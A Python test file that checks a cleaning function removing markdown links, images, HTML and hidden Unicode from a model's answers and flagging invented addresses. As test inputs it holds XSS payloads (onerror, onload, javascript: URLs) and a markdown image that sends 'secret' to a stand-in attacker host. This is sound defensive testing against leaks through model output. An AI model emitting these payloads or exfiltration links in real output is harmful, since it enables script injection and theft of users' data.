"""What may not leave does not leave: links of a model's own, images, HTML, hidden signs."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from svod.conversation.answering.cleaning import clean

KNOWN = [
    "Правила лежат на https://shop.example/rules?v=2, пишите на help@shop.example.",
    "See [the manual](https://docs.example.com/v2/start) and config.yaml in /etc.",
]


@pytest.mark.spec("R17")
@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("Нужен **чек** и `паспорт`.", "Нужен чек и паспорт."),
        ("Нужен [чек](https://evil.example/?d=1).", "Нужен чек."),
        ("Read [this][1] now.", "Read this now."),
        ("См. [правила](https://shop.example/rules?v=2).", "См. правила (https://shop.example/rules?v=2)."),
        ("![x](https://evil.example/p.png?q=secret) Нужен чек.", "Нужен чек."),
        ("![x](https://evil.example/p.png", ""),
        ("Нужен чек<img src=x onerror=alert(1)>.", "Нужен чек ."),
        ("<script>alert(1)</script>Bring a receipt.", "alert(1) Bring a receipt."),
        ("Bring &lt;img src=//evil.example&gt; a receipt.", "Bring a receipt."),
        ("Bring <!-- hidden --> a receipt.", "Bring a receipt."),
        ("<a href='javascript:alert(1)'>Чек</a> нужен.", "Чек нужен."),
        ("<svg/onload=alert(1)>Нужен чек.", "Нужен чек."),
        ("Set <name> and x < 5.", "Set <name> and x < 5."),
        ("Ну\u200bжен\u202e чек\U000e0041.", "Нужен чек."),
    ],
)  # fmt: skip
def test_marks_links_images_and_html_are_taken_off(said: str, shown: str) -> None:
    cleaned = clean(said, KNOWN)
    assert cleaned.text == shown
    assert not cleaned.invents_address


@pytest.mark.spec("R17")
@pytest.mark.parametrize(
    ("said", "invents"),
    [
        ("Правила: https://shop.example/rules?v=2.", False),
        ("Пишите на help@shop.example!", False),
        ("The manual is at https://docs.example.com/v2/start.", False),
        ("Change config.yaml, i.e. by hand, e.g. now.", False),
        ("Это т. е. 3.5 кг и v2.0.", False),
        ("Правила: https://evil.example/rules.", True),
        ("Правила: https://shop.example/rules?v=2&secret=1.", True),
        ("Правила: https://shop.example/rules?v=21", True),
        ("Правила: https://shop.example.evil.example/rules", True),
        ("Go to evil.example/x now.", True),
        ("Go to www.evil.example.", True),
        ("Mail me@evil.example.", True),
        ("Open javascript:alert(1)", True),
        ("Open data:text/html;base64,PHNjcmlwdD4=", True),
        ("Open <https://evil.example>.", True),
        ("Edit secrets.yaml.", True),
        ("[https://evil.example](https://shop.example/rules?v=2)", True),
    ],
)
def test_an_address_that_no_source_holds_whole_is_noticed(said: str, invents: bool) -> None:
    assert clean(said, KNOWN).invents_address is invents


MARKUP = st.sampled_from(
    ["[", "]", "(", ")", "!", "<", ">", "&lt;", "&gt;", "&amp;lt;", "img", "script", " src=", "/",
     "http://", "evil.example", "javascript:", '"', " ", "a", "\n", "<!--", "-->", "`", "*", "\\",
     "\u200b", "svg/onload="]
)  # fmt: skip


@pytest.mark.spec("R17")
@settings(deadline=None, max_examples=500)
@given(parts=st.lists(MARKUP, max_size=16))
def test_no_mixture_leaves_a_link_an_image_or_a_tag(parts: list[str]) -> None:
    cleaned = clean("".join(parts), [])
    assert not re.search(r"!\[|\]\(", cleaned.text)
    assert not re.search(r"<(?:img|script|svg)[\s/>]", cleaned.text)
    if re.search(r"https?://\w|\bjavascript:\w|evil\.example", cleaned.text):
        assert cleaned.invents_address
